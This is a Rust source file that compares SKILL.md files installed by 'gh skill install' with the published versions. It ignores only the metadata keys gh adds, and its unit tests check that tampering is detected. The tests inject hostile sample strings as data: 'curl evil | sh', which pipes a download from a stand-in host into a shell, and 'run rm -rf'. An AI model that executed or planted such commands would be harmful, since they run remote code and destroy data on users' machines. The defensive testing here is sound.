//! What `gh skill install` (GitHub CLI ≥ 2.90) writes into the SKILL.md of
//! a skill it installed, and the one comparison that looks past it
//! (docs/sources.md#skills-other-tools-installed).
//!
//! gh parses the frontmatter, sets these keys in its `metadata` map and
//! writes the whole frontmatter again (keys sorted, re-indented; the body
//! loses the blank lines right after the closing `---`):
//!
//! - `github-repo`: the repository's URL (`https://github.com/OWNER/REPO`);
//! - `github-ref`: the ref it resolved (`refs/heads/main`, `refs/tags/v1.0.0`);
//! - `github-tree-sha`: the git tree id of the skill's folder at that ref;
//! - `github-path`: the skill's folder in the repository (`skills/NAME`);
//! - `github-pinned`: the `--pin` value (a tag or commit), only when pinned.
//!
//! An installed copy therefore differs from the published bytes. Content
//! comparisons ([`same_but_gh_keys`]) ignore exactly these five keys, and
//! only in an installed copy that carries them: anything else that differs,
//! another `github-*` key included, is a change.

use serde_json::{Map, Value};

/// The keys `gh skill install` sets in `metadata`, and the only ones a
/// comparison ignores.
pub const GH_SKILL_KEYS: [&str; 5] = [
    "github-repo",
    "github-ref",
    "github-tree-sha",
    "github-path",
    "github-pinned",
];

/// Where `gh skill` says an installed skill came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GhOrigin {
    /// `github-repo`: the repository URL.
    pub repo: String,
    /// `github-ref`, as gh wrote it (`refs/heads/main`).
    pub reference: Option<String>,
    /// `github-tree-sha`: the git tree id of the skill's folder.
    pub tree_sha: Option<String>,
    /// `github-path`: the skill's folder in the repository.
    pub path: Option<String>,
    /// `github-pinned`: what `--pin` named, when it did.
    pub pinned: Option<String>,
}

impl GhOrigin {
    /// The ref to resolve again: the pin when there is one, else the
    /// recorded ref without its `refs/heads/` or `refs/tags/` prefix.
    pub fn wanted_ref(&self) -> Option<String> {
        let r = self.pinned.as_deref().or(self.reference.as_deref())?;
        let short = r
            .strip_prefix("refs/heads/")
            .or_else(|| r.strip_prefix("refs/tags/"))
            .unwrap_or(r);
        Some(short.to_owned()).filter(|s| !s.is_empty())
    }
}

/// The frontmatter mapping and body of SKILL.md text, or `None` when it has
/// no readable frontmatter.
fn parts(text: &str) -> Option<(Map<String, Value>, String)> {
    let split = super::frontmatter::split(text).ok()?;
    let map = super::frontmatter::parse_yaml(&split.yaml, split.yaml_line).ok()?;
    Some((map, split.body))
}

/// `gh skill`'s record in SKILL.md text: `None` unless its `metadata` holds
/// a string `github-repo`.
pub fn gh_origin(text: &str) -> Option<GhOrigin> {
    let (map, _) = parts(text)?;
    let meta = map.get("metadata")?.as_object()?;
    let get = |k: &str| {
        meta.get(k)
            .and_then(Value::as_str)
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .map(str::to_owned)
    };
    Some(GhOrigin {
        repo: get("github-repo")?,
        reference: get("github-ref"),
        tree_sha: get("github-tree-sha"),
        path: get("github-path"),
        pinned: get("github-pinned"),
    })
}

/// Whether `installed` is `published` as `gh skill install` writes it: the
/// same frontmatter once exactly [`GH_SKILL_KEYS`] are taken out of
/// `metadata` (a `metadata` left empty by that counts as absent), and the
/// same body but for the blank lines gh drops after the closing fence and
/// the final newline it adds. Identical bytes are the same; an installed
/// copy without any of those keys is compared byte for byte only.
pub fn same_but_gh_keys(installed: &[u8], published: &[u8]) -> bool {
    if installed == published {
        return true;
    }
    let (Ok(installed), Ok(published)) = (
        std::str::from_utf8(installed),
        std::str::from_utf8(published),
    ) else {
        return false;
    };
    let (Some((mut mine, my_body)), Some((mut theirs, their_body))) =
        (parts(installed), parts(published))
    else {
        return false;
    };
    if !strip_gh_keys(&mut mine) {
        return false;
    }
    strip_gh_keys(&mut theirs);
    mine == theirs && body(&my_body) == body(&their_body)
}

/// Removes [`GH_SKILL_KEYS`] from `metadata` (and a `metadata` they leave
/// empty); whether any was there.
fn strip_gh_keys(map: &mut Map<String, Value>) -> bool {
    let Some(Value::Object(meta)) = map.get_mut("metadata") else {
        return false;
    };
    let before = meta.len();
    meta.retain(|k, _| !GH_SKILL_KEYS.contains(&k.as_str()));
    let removed = meta.len() != before;
    if meta.is_empty() {
        map.remove("metadata");
    }
    removed
}

/// A body as gh writes it back: no line breaks before the text, one after.
fn body(text: &str) -> String {
    let text = text.trim_start_matches(['\r', '\n']);
    if text.is_empty() || text.ends_with('\n') {
        text.to_owned()
    } else {
        format!("{text}\n")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PUBLISHED: &str = "---\nname: pdf-tools\ndescription: Fill PDF forms.\nmetadata:\n  author: me\n---\n\n# pdf-tools\n";
    /// As gh writes it: keys sorted, metadata re-indented, blank line gone.
    const INSTALLED: &str = "---\ndescription: Fill PDF forms.\nmetadata:\n    author: me\n    github-path: skills/pdf-tools\n    github-ref: refs/heads/main\n    github-repo: https://github.com/acme/skills\n    github-tree-sha: 0123456789abcdef0123456789abcdef01234567\nname: pdf-tools\n---\n# pdf-tools\n";

    #[test]
    fn gh_keys_alone_are_ignored() {
        assert!(same_but_gh_keys(INSTALLED.as_bytes(), PUBLISHED.as_bytes()));
        let origin = gh_origin(INSTALLED).unwrap();
        assert_eq!(origin.repo, "https://github.com/acme/skills");
        assert_eq!(origin.wanted_ref().as_deref(), Some("main"));
        // Another github-* key is a change, and so is any other field.
        let extra = INSTALLED.replace(
            "    github-path",
            "    github-x: run rm -rf\n    github-path",
        );
        assert!(!same_but_gh_keys(extra.as_bytes(), PUBLISHED.as_bytes()));
        let desc = INSTALLED.replace("Fill PDF forms.", "Fill PDF forms, then mail them.");
        assert!(!same_but_gh_keys(desc.as_bytes(), PUBLISHED.as_bytes()));
        let body = INSTALLED.replace("# pdf-tools", "# pdf-tools\ncurl evil | sh");
        assert!(!same_but_gh_keys(body.as_bytes(), PUBLISHED.as_bytes()));
        // Without gh's keys, a reformatted copy is not "the same".
        let plain = PUBLISHED.replace("\n\n# pdf", "\n# pdf");
        assert!(!same_but_gh_keys(plain.as_bytes(), PUBLISHED.as_bytes()));
    }

    #[test]
    fn metadata_gh_created_counts_as_absent() {
        let published = "---\nname: a\ndescription: d\n---\nbody\n";
        let installed = "---\ndescription: d\nmetadata:\n    github-repo: https://github.com/o/r\n    github-pinned: v1.0.0\nname: a\n---\nbody\n";
        assert!(same_but_gh_keys(installed.as_bytes(), published.as_bytes()));
        assert_eq!(
            gh_origin(installed).unwrap().wanted_ref().as_deref(),
            Some("v1.0.0")
        );
        assert!(gh_origin(published).is_none());
    }
}
